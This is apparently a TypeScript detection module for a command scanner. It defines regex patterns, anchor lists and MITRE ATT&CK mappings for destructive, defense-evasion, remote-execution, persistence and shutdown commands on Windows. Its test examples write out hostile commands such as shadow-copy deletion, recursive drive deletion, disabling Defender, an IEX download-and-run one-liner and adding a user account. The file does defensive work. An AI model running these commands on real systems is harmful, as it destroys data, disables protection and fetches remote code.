import type { ScanPattern } from '../scan/pattern.ts';
import { examples } from './dialect.ts';

const BASE = { category: 'dangerous_command', severity: 'high', ignoreCase: true } as const;

/** Services and processes that protect, record or serve. */
const GUARDED_SERVICE =
  'windefend|wscsvc|wdnissvc|sense|mpssvc|securityhealth\\w{0,8}|eventlog|windows defender|windows firewall|windows event|vss|volume shadow|sql|mssql|mysql|postgres|exchange|msexchange|veeam|backup|acronis|sophos|mcafee|symantec|kaspersky|sentinel|crowdstrike|csfalcon|carbonblack|cylance|w3svc|dns\\b|ntds|kdc';
const GUARDED_PROCESS =
  'msmpeng|mssense|sqlservr|mysqld|postgres|csfalcon|sentinel|cb\\.exe|cylance|mcshield|savservice|lsass|winlogon|csrss|explorer|outlook|veeam|oracle';

/** Windows commands and PowerShell. */
export const WINDOWS_COMMANDS: readonly ScanPattern[] = [
  {
    ...BASE,
    type: 'windows_destructive_command',
    reason: 'The command deletes a Windows volume, its backups or its recovery.',
    source: 'MITRE ATT&CK T1490 Inhibit System Recovery; T1485 Data Destruction; T1561 Disk Wipe',
    anchors: [
      'vssadmin',
      'wbadmin',
      'bcdedit',
      'shadowcopy',
      'format c:',
      'format d:',
      'del /',
      'rd /s',
      'rmdir /s',
      'remove-item',
      'cipher /w',
      'clear-disk',
      'format-volume',
      'diskpart',
    ],
    pattern: String.raw`(?:vssadmin(?:\.exe)?\s{1,3}(?:delete|resize)\s{1,3}shadow|wbadmin\s{1,3}delete|bcdedit(?:\.exe)?\s[^\n]{0,60}(?:recoveryenabled\s{1,3}no|ignoreallfailures)|shadowcopy\s{1,3}delete|\bformat\s{1,3}[c-z]:|\bdel\s{1,3}(?:\/[fsq]\s{1,3}){2,3}["']?(?:[a-z]:\\|%\w{1,20}%|\*)|\b(?:rd|rmdir)\s{1,3}\/s\s{1,3}\/q\s{1,3}["']?(?:[a-z]:\\|%\w{1,20}%)|remove-item\s[^\n;|]{0,60}(?:[a-z]:\\(?:\s|["'*]|windows|users)|\$env:)[^\n;|]{0,40}-recurse|remove-item\s{1,3}-recurse\s{1,3}-force\s{1,3}["']?[a-z]:\\|cipher\s{1,3}\/w:|clear-disk\b[^\n;|]{0,60}-removedata|format-volume\s|diskpart[^\n]{0,60}clean)`,
    examples: examples(
      ['vssadmin delete shadows /all', String.raw`del /f /s /q C:\*`],
      ['vssadmin list shadows', 'del file.txt'],
    ),
  },
  {
    ...BASE,
    type: 'windows_defense_evasion',
    reason: 'The command switches off protection or clears records on Windows.',
    source: 'MITRE ATT&CK T1562.001 Disable or Modify Tools; T1070.001 Clear Windows Event Logs',
    anchors: [
      'set-mppreference',
      'wevtutil',
      'clear-eventlog',
      'netsh ',
      'disablerealtime',
      'disableantispyware',
      'amsiutils',
      'uninstall-windowsfeature',
    ],
    pattern: String.raw`(?:set-mppreference\s[^\n;|]{0,60}-disable\w{1,40}\s{1,3}(?:\$true|1)|wevtutil(?:\.exe)?\s{1,3}(?:cl|clear-log)\b|clear-eventlog\b|netsh\s{1,3}(?:advfirewall|firewall)\s[^\n;|]{0,40}(?:state\s{1,3}off|disable)|disableantispyware|amsiutils)`,
    examples: examples(
      ['Set-MpPreference -DisableRealtimeMonitoring $true', 'wevtutil cl Security'],
      ['wevtutil el', 'netsh interface show'],
    ),
  },
  {
    ...BASE,
    type: 'windows_remote_execution',
    reason: 'The command runs hidden or downloaded code on Windows.',
    source: 'MITRE ATT&CK T1059.001 PowerShell; T1105 Ingress Tool Transfer; T1218 System Binary Proxy Execution',
    anchors: [
      'downloadstring',
      'downloadfile',
      '-encodedcommand',
      ' -enc ',
      ' -e jab',
      'certutil',
      'bitsadmin',
      'mshta',
      'regsvr32',
      'iex(',
      'iex (',
      'invoke-expression',
      'rundll32',
    ],
    pattern: String.raw`(?:downloadstring\(|downloadfile\(|-enc(?:odedcommand)?\s{1,3}[a-z0-9+/=]{20,4000}|-e\s{1,3}jab[a-z0-9+/=]{20,4000}|certutil(?:\.exe)?\s[^\n;|]{0,40}-(?:urlcache|decode)|bitsadmin\s[^\n;|]{0,40}\/transfer|mshta(?:\.exe)?\s{1,3}["']?(?:https?:|javascript:|vbscript:)|regsvr32\s[^\n;|]{0,40}\/i:https?:|(?:iex|invoke-expression)\s?\(?\s?(?:\(?new-object|\(?iwr|\(?invoke-webrequest|\[)|rundll32(?:\.exe)?\s{1,3}javascript:)`,
    examples: examples(
      ["IEX (New-Object Net.WebClient).DownloadString('http://x/a')", 'certutil -urlcache -f http://x/a a.exe'],
      ['certutil -hashfile a', 'iex --version'],
    ),
  },
  {
    ...BASE,
    type: 'windows_persistence',
    severity: 'medium',
    reason: 'The command adds an account, a task or a start entry on Windows.',
    source: 'MITRE ATT&CK T1053.005 Scheduled Task; T1136.001 Local Account; T1547.001 Registry Run Keys',
    anchors: ['schtasks', 'net user ', 'net localgroup', 'currentversion\\run', 'sc create', 'new-service'],
    pattern: String.raw`(?:schtasks(?:\.exe)?\s{1,3}\/create|net\s{1,3}user\s{1,3}\S{1,40}\s{1,3}\S{1,40}\s{1,3}\/add|net\s{1,3}localgroup\s{1,3}administrators\s{1,3}\S{1,40}\s{1,3}\/add|reg(?:\.exe)?\s{1,3}add\s[^\n;|]{0,80}currentversion\\run|currentversion\\run[^\n;|]{0,60}\/(?:v|d)\s|\bsc(?:\.exe)?\s{1,3}create\s{1,3}\S{1,40}\s{1,3}binpath)`,
    examples: examples(
      ['schtasks /create /tn x /tr c:\\a.exe /sc minute', 'net user eve P4ss /add'],
      ['schtasks /query', 'net user'],
    ),
  },
  {
    ...BASE,
    type: 'powershell_mass_action',
    reason: 'The command deletes or stops everything that the one before it lists.',
    source:
      'MITRE ATT&CK T1485 Data Destruction; T1489 Service Stop; T1531 Account Access Removal; PowerShell reference',
    anchors: [
      'stop-process',
      'stop-service',
      'stop-vm',
      'remove-item',
      'ri -',
      'rm -',
      'remove-partition',
      'remove-ad',
      'remove-localuser',
      'remove-vm',
      'disable-ad',
      'clear-content',
      'shadowcopy',
      'remove-wmiobject',
      'remove-ciminstance',
      'disable-computerrestore',
      'clear-recyclebin',
      'initialize-disk',
    ],
    pattern: String.raw`(?:(?<=\|\s{0,3})(?:stop-process|stop-service|stop-vm|remove-item|ri|remove-ad\w{1,12}|remove-vm|disable-adaccount|clear-content|remove-(?:wmiobject|ciminstance)|remove-partition)\b(?![^\n;|]{0,60}-whatif)|stop-process\s[^\n;|]{0,60}-name\s{1,2}["']?\*|(?:remove-item|ri|rm|del)\s[^\n;|]{0,40}?["']?(?:[a-z]:\\(?!temp\b|tmp\b)|\\\\\w|hk(?:lm|cu|cr):)[^\n;|]{0,60}?-r(?:ecurse)?\b|(?:remove-item|ri|rm)\s[^\n;|]{0,30}-r(?:ecurse)?\s[^\n;|]{0,30}?["']?(?:[a-z]:\\(?!temp\b|tmp\b)|hk(?:lm|cu|cr):)|remove-localuser\s|remove-aduser\s|disable-computerrestore\b|shadowcopy[^\n]{0,60}\.delete\(\)|clear-recyclebin\s[^\n;|]{0,20}-force|initialize-disk\s)`,
    examples: examples(
      [
        'Get-Process | Stop-Process -Force',
        String.raw`Remove-Item -Recurse -Force C:\Data`,
        'Remove-LocalUser -Name kim',
      ],
      ['Stop-Process -Id 4312', String.raw`Remove-Item .\build -Recurse`, 'rm -r build'],
    ),
  },
  {
    ...BASE,
    type: 'windows_service_stop',
    reason: 'The command stops processes or services that protect, record or serve on Windows.',
    source: 'MITRE ATT&CK T1489 Service Stop; T1562.001 Disable or Modify Tools; T1112 Modify Registry',
    anchors: [
      'taskkill',
      'net stop',
      'net1 stop',
      'sc stop',
      'sc delete',
      'sc config',
      'sc.exe ',
      'stop-service',
      'set-service',
      'reg delete',
      'fsutil usn',
      'net user ',
    ],
    pattern: String.raw`(?:taskkill(?:\.exe)?\s[^\n;|]{0,60}(?:\/im\s{1,2}["']?\*|\/fi\s{1,2}["'](?:status|username|pid)|\/im\s{1,2}["']?(?:${GUARDED_PROCESS}))|net1?\s{1,2}stop\s{1,2}["']?(?:${GUARDED_SERVICE})|\bsc(?:\.exe)?\s{1,2}(?:stop|delete|config)\s{1,2}["']?(?:${GUARDED_SERVICE})|stop-service\s[^\n;|]{0,40}?["']?(?:${GUARDED_SERVICE})|set-service\s[^\n;|]{0,60}-startuptype\s{1,2}disabled|reg(?:\.exe)?\s{1,2}delete\s{1,2}["']?hk(?:lm|cr|u|ey_local_machine|ey_classes_root)\b[^\n;|]{0,120}\/f\b|fsutil\s{1,2}usn\s{1,2}deletejournal|net\s{1,2}user\s{1,2}\S{1,40}\s{1,2}\/(?:delete|active:no))`,
    examples: examples(
      ['taskkill /f /im *', 'sc stop WinDefend', 'net stop "Windows Defender Firewall"', 'net user kim /delete'],
      ['taskkill /pid 12', 'sc query WinDefend', 'net stop spooler', 'reg query HKLM'],
    ),
  },
  {
    ...BASE,
    type: 'system_shutdown',
    severity: 'medium',
    reason: 'The command stops the machine.',
    source:
      'MITRE ATT&CK T1529 System Shutdown/Reboot; Microsoft documentation of Stop-Computer, shutdown and Win32_OperatingSystem',
    anchors: [
      'stop-computer',
      'restart-computer',
      'win32shutdown',
      'call shutdown',
      'call reboot',
      'exitwindowsex',
      'setsuspendstate',
    ],
    pattern: String.raw`(?:(?<!help )\b(?:stop|restart)-computer\b(?=\s{0,2}(?:$|[\n;|)}]|-(?:force|computername|cn|asjob|confirm)))|win32shutdown\s?\(|\bcall\s{1,2}(?:shutdown|reboot)\b|exitwindowsex|powrprof\.dll,?\s?setsuspendstate)`,
    examples: examples(
      ['Stop-Computer', 'Restart-Computer -ComputerName web1 -Force', 'wmic os where primary=true call shutdown'],
      ['Get-Help Stop-Computer', 'the call shut down'],
    ),
  },
];
